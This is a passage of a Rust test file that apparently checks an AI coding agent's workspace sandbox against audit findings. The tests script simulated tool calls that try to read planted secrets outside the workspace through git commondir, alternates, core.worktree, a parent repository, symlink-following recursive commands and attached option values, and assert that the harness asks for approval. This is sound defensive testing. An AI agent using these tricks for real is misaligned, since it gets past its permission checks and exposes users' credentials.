            checkout.iter().map(|c| shell(c, ".")).collect(),
        );
        assert_nothing_leaked(&out, "OUTSIDE-PASSWORD", "checkout include");
        assert_eq!(out.results.len(), checkout.len());
    }
}

/// A repository outside the workspace, with one committed secret.
fn outside_repo(site: &Site) -> (PathBuf, String) {
    let repo = site.outside.join("private-repo");
    std::fs::create_dir(&repo).unwrap();
    setup_git(&repo, &["init", "-q", "."]);
    std::fs::write(repo.join("prod.env"), "DB_PASSWORD=outside-repo-secret\n").unwrap();
    setup_git(&repo, &["add", "."]);
    setup_git(&repo, &["commit", "-qm", "init"]);
    let head = std::process::Command::new("git")
        .args(["rev-parse", "HEAD"])
        .current_dir(&repo)
        .output()
        .unwrap();
    let head = String::from_utf8(head.stdout).unwrap().trim().to_owned();
    (repo, head)
}

/// Audit finding 2: a git dir the model writes (or a checkout holds) that leads git to a
/// repository outside the workspace: `commondir`, `objects/info/alternates`, `core.worktree`,
/// and a repository above the workspace.
#[test]
fn audit_git_repository_outside_the_workspace_is_asked() {
    if !have_git() {
        eprintln!("SKIPPED: git is not installed");
        return;
    }
    let site = Site::new();
    let (repo, head) = outside_repo(&site);
    let r = repo.display();
    let secret = "outside-repo-secret";
    // commondir, each write in its own response.
    let calls = vec![
        write("x/HEAD", "ref: refs/heads/main\n"),
        write("x/commondir", &format!("{r}/.git\n")),
        shell("git show HEAD:prod.env", "x"),
        shell("git ls-tree -r HEAD", "x"),
        shell("git log -p", "x"),
    ];
    let out = site.run(Mode::WorkspaceWrite, json!({}), calls);
    assert_nothing_leaked(&out, secret, "commondir");
    assert_nothing_leaked(&out, "prod.env", "commondir");
    assert_eq!(
        asked_commands(&out),
        [
            "git show HEAD:prod.env",
            "git ls-tree -r HEAD",
            "git log -p"
        ]
    );
    // commondir written in the same response as the command: the check at decision time
    // sees no repository yet, the one at launch does.
    std::fs::remove_dir_all(site.ws.join("x")).unwrap();
    let batch = json!({"tool_calls": [
        {"id": "a", "name": "write_file", "arguments": {"file_path": "y/HEAD", "content": "ref: refs/heads/main\n"}},
        {"id": "b", "name": "write_file", "arguments": {"file_path": "y/commondir", "content": format!("{r}/.git\n")}},
        {"id": "c", "name": "run_shell_command", "arguments": {"command": "git show HEAD:prod.env", "working_directory": "."}},
    ]});
    let mut calls = vec![write("y/keep", "")];
    calls.push(batch);
    calls.push(shell("git show HEAD:prod.env", "y"));
    let same_batch = json!({"tool_calls": [
        {"id": "d", "name": "write_file", "arguments": {"file_path": "z/HEAD", "content": "ref: refs/heads/main\n"}},
        {"id": "e", "name": "write_file", "arguments": {"file_path": "z/commondir", "content": format!("{r}/.git\n")}},
        {"id": "f", "name": "run_shell_command", "arguments": {"command": "git show HEAD:prod.env", "working_directory": "z"}},
    ]});
    calls.push(write("z/keep", ""));
    calls.push(same_batch);
    let out = site.run(Mode::WorkspaceWrite, json!({}), calls);
    assert_nothing_leaked(&out, secret, "commondir in one batch");
    // objects/info/alternates: the outside repository's objects under a ref the model wrote.
    let calls = vec![
        write("a/HEAD", "ref: refs/heads/main\n"),
        write("a/objects/info/alternates", &format!("{r}/.git/objects\n")),
        write("a/refs/heads/main", &format!("{head}\n")),
        shell("git show HEAD:prod.env", "a"),
    ];
    let out = site.run(Mode::WorkspaceWrite, json!({}), calls);
    assert_nothing_leaked(&out, secret, "alternates");
    assert_eq!(asked_commands(&out), ["git show HEAD:prod.env"]);
    // core.worktree in a checkout's config: the work tree git lists is the outside directory.
    let co = site.ws.join("co");
    std::fs::create_dir(&co).unwrap();
    setup_git(&co, &["init", "-q", "."]);
    setup_git(
        &co,
        &[
            "config",
            "core.worktree",
            &site.outside.display().to_string(),
        ],
    );
    let calls = vec![
        shell("git status --short --untracked-files=all", "co"),
        shell("git ls-files --others", "co"),
    ];
    let out = site.run(Mode::WorkspaceWrite, json!({}), calls);
    assert_nothing_leaked(&out, "secret.txt", "core.worktree");
    assert_eq!(out.asked.len(), 2, "{:?}", out.asked);
    std::fs::remove_dir_all(&co).unwrap();
    // A repository above the workspace: git would climb out of it.
    let base = site.ws.parent().unwrap().to_path_buf();
    setup_git(&base, &["init", "-q", "."]);
    setup_git(&base, &["add", "outside/secret.txt"]);
    setup_git(&base, &["commit", "-qm", "above"]);
    let above = [
        "git show HEAD:outside/secret.txt",
        "git log -p",
        "git ls-files --full-name",
    ];
    for mode in [Mode::WorkspaceWrite, Mode::Plan] {
        let out = site.run(
            mode,
            json!({}),
            above.iter().map(|c| shell(c, ".")).collect(),
        );
        assert_nothing_leaked(&out, "TOPSECRET", "repository above");
        assert_eq!(asked_commands(&out), above, "{mode:?}");
    }
    // A repository inside the workspace still runs without asking.
    setup_git(&site.ws, &["init", "-q", "."]);
    std::fs::write(site.ws.join("in.txt"), "inside\n").unwrap();
    setup_git(&site.ws, &["add", "in.txt"]);
    setup_git(&site.ws, &["commit", "-qm", "in"]);
    let out = site.run(
        Mode::WorkspaceWrite,
        json!({}),
        vec![shell("git show HEAD:in.txt", "."), shell("git status", ".")],
    );
    assert!(out.asked.is_empty(), "{:?}", out.asked);
    assert!(out.results[0].contains("inside"), "{}", out.results[0]);
}

/// Audit finding 3: symlinks reached by recursion (`grep -R`, `ls -LR`, `du -L`, `diff -r`)
/// and values attached to short options (`-fsettings`).
#[test]
fn audit_shell_recursive_symlinks_and_attached_values_are_asked() {
    let site = Site::new();
    std::fs::create_dir_all(site.ws.join("docs")).unwrap();
    std::fs::create_dir_all(site.ws.join("empty")).unwrap();
    std::fs::write(site.ws.join("docs/readme"), "hello\n").unwrap();
    std::fs::write(
        site.outside.join("pypirc"),
        "[pypi]\n\tpassword = pypi-OUTSIDE-FROM-LINK\n",
    )
    .unwrap();
    std::os::unix::fs::symlink(&site.outside, site.ws.join("docs/vendor")).unwrap();
    std::os::unix::fs::symlink(site.outside.join("pypirc"), site.ws.join("settings")).unwrap();
    let commands = [
        "grep -R TOPSECRET .",
        "grep -R TOPSECRET",
        "grep --dereference-recursive TOPSECRET docs",
        "grep -rR TOPSECRET docs",
        "ls -LR docs",
        "ls -R -L",
        "ls --dereference --recursive docs",
        "du -aL docs",
        "du -a --dereference",
        "diff -r empty docs",
        "diff --recursive empty docs",
        "grep -fsettings docs/readme",
        "tail -n1 -csettings",
    ];
    let mut calls: Vec<Value> = commands.iter().map(|c| shell(c, ".")).collect();
    if have_git() {
        calls.push(shell("git config --get-regexp -fsettings .", "."));
    }
    let out = site.run(Mode::WorkspaceWrite, json!({}), calls);
    assert_nothing_leaked(&out, "TOPSECRET", "symlink");
    assert_nothing_leaked(&out, "OUTSIDE-FROM-LINK", "symlink");
    assert_nothing_leaked(&out, "secret.txt", "symlink");
    let mut expected: Vec<String> = commands.iter().map(|c| (*c).to_owned()).collect();
    if have_git() {
        expected.push("git config --get-regexp -fsettings .".to_owned());
    }
    assert_eq!(asked_commands(&out), expected);
    // Recursion that does not follow links below the operands stays auto-allowed.
    let inside = [
        "grep -r TOPSECRET .",
        "ls -R docs",
        "du -a docs",
        "ls -la",
        "grep -rn hello docs",
    ];
    let out = site.run(
        Mode::WorkspaceWrite,
        json!({}),
        inside.iter().map(|c| shell(c, ".")).collect(),
    );
    assert!(out.asked.is_empty(), "{:?}", out.asked);
    assert_nothing_leaked(&out, "TOPSECRET", "inside");
    assert!(out.results[4].contains("hello"), "{}", out.results[4]);
}
